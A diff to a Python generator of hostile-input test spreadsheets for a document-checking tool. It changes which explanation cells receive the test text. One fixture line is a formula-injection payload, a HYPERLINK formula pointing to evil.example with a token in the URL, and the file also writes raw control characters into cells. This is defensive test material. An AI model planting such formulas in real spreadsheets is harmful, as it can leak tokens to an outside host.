@@ -12,8 +12,8 @@ from pathlib import Path
 
 from xxgk.formats import get_format
 
-from .base import (ANY, READ, TOKEN, Case, edit, inline_text, set_sheet_cells, sheet_parts, template_bytes, values_for,
-                   write)
+from .base import (ANY, READ, TOKEN, Case, checks_for, edit, inline_text, set_sheet_cells, sheet_parts, template_bytes,
+                   values_for, write)
 
 FORMULA_LIKE = (
     f'=HYPERLINK("http://evil.example/{TOKEN}","点此查看")',
@@ -55,14 +55,22 @@ def explanation_cells(parts: dict) -> tuple[str, list[str]]:
     return sheet_parts(parts)[sheet.strip("'")], [f"{column}{row}" for row in rows]
 
 
-def with_explanations(data: bytes, text: str, raw: bool = False) -> bytes:
-    """Every 说明 cell holding ``text`` (raw: control characters left unescaped, as a broken tool would)."""
+def with_explanations(data: bytes, format_id: str, text: str, raw: bool = False) -> bytes:
+    """The 说明 cells of every warning, and the first and last of the column, holding ``text`` (raw: control
+    characters left unescaped, as a broken tool would). Only a warning's 说明 reaches its finding (the rule
+    engine gives errors none), so these are the cells where the text has an effect; the first and last keep
+    the ends of the xxgk_checks range. All 249 held it before: 2.5 MB of text a file, 10 MB in the too-long
+    case, each costing openpyxl seconds to load and save for a marked copy."""
+    checks = checks_for(format_id)  # the 校验结果 rows, in order (base.template_bytes writes these)
+
     def change(parts: dict) -> None:
         member, refs = explanation_cells(parts)
+        assert len(refs) == len(checks), (len(refs), len(checks))
+        chosen = {refs[0], refs[-1]} | {ref for ref, check in zip(refs, checks) if check.severity == "warning"}
         body = inline_text(text)
         if not raw:
             body = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group(0)):04X}_", body)
-        xml = set_sheet_cells(parts[member].decode("utf-8"), {ref: (body, "inlineStr") for ref in refs})
+        xml = set_sheet_cells(parts[member].decode("utf-8"), {ref: (body, "inlineStr") for ref in chosen})
         parts[member] = xml.encode("utf-8")
 
     return edit(data, change)
@@ -76,12 +84,13 @@ def generate(folder: Path) -> list[Case]:
             values = _warning_values(format_id, text, **{"cover.filler": text, "cover.phone": text})
             path = write(folder, f"单位名_{format_id}_{i:02d}.xlsx", template_bytes(format_id, values, live=False))
             cases.append(Case(path, "hostile_text", "agency_name", READ))
-            explained = with_explanations(warned, text)
+            explained = with_explanations(warned, format_id, text)
             path = write(folder, f"说明_{format_id}_{i:02d}.xlsx", explained)
             cases.append(Case(path, "hostile_text", "explanation", READ))
-        cases.append(Case(write(folder, f"说明超长_{format_id}.xlsx", with_explanations(warned, TOO_LONG)),
+        cases.append(Case(write(folder, f"说明超长_{format_id}.xlsx", with_explanations(warned, format_id, TOO_LONG)),
                           "hostile_text", "explanation_too_long", READ))
-        cases.append(Case(write(folder, f"说明控制字符_{format_id}.xlsx", with_explanations(warned, CONTROL, raw=True)),
+        raw_control = with_explanations(warned, format_id, CONTROL, raw=True)
+        cases.append(Case(write(folder, f"说明控制字符_{format_id}.xlsx", raw_control),
                           "hostile_text", "explanation_raw_control", ANY))
     for i, name in enumerate(FILE_NAMES):
         data = template_bytes("2021", values_for("2021", f"区文件名局{i}", seed=i), live=False)
